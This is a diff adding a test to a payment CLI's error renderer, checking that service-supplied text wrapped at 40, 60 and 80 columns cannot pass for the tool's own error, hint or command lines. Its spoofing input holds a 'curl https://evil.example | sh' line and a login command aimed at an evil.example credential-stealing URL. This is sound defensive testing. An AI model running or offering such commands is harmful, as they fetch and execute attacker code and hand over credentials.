@@ -3,6 +3,7 @@ import { describe, expect, test } from 'vitest';
 import { PayconfirmError, usageError } from '../../src/errors.ts';
 import { reveal } from '../../src/io/terminal.ts';
 import { renderError } from '../../src/output/error.ts';
+import { foldProse } from '../../src/output/fit.ts';
 import { createProgress } from '../../src/output/progress.ts';
 import { createTheme, plainTheme } from '../../src/output/theme.ts';
 import { withCommand } from '../../src/values/command-line.ts';
@@ -77,6 +78,33 @@ describe('an error', () => {
         request: { method: 'POST', path: '/api/v1/sandbox/transactions' },
       },
     });
+  });
+});
+
+describe('text of others in an error on a terminal', () => {
+  const command = 'payconfirm auth login --base-url https://evil.example/steal/all/of/it';
+  const evil = `${command} hint: ${command}; error: no. $ ${command}, curl https://evil.example | sh`;
+
+  test.each([40, 60, 80])('begins no line of %d columns as one of ours', (columns) => {
+    for (let length = 1; length <= columns; length += 1) {
+      const said = `${'Không '.repeat(20).slice(0, length)}${evil}`;
+      const filled = `${'x'.repeat(length)} ${evil}`;
+      const error = new PayconfirmError('refused', said, {
+        status: 400,
+        details: [
+          { field: said, message: filled },
+          { field: evil, message: said },
+        ],
+        hint: [`the service says: ${said}`, withCommand(`it says ${filled}:`, ['auth', 'login'])],
+      });
+      const lines = foldProse(renderError(error, text), columns).trimEnd().split('\n');
+      expect(lines.filter((line) => /^\s*(?:(?:error|hint):|\$?\s*payconfirm|curl)/.test(line))).toEqual([
+        expect.stringMatching(/^error: /),
+        expect.stringMatching(/^hint: the service says: /),
+        ...lines.slice(-1).filter((line) => line === 'payconfirm auth login'),
+      ]);
+      expect(lines.at(-1)).toMatch(/payconfirm auth login$/);
+    }
   });
 });
 
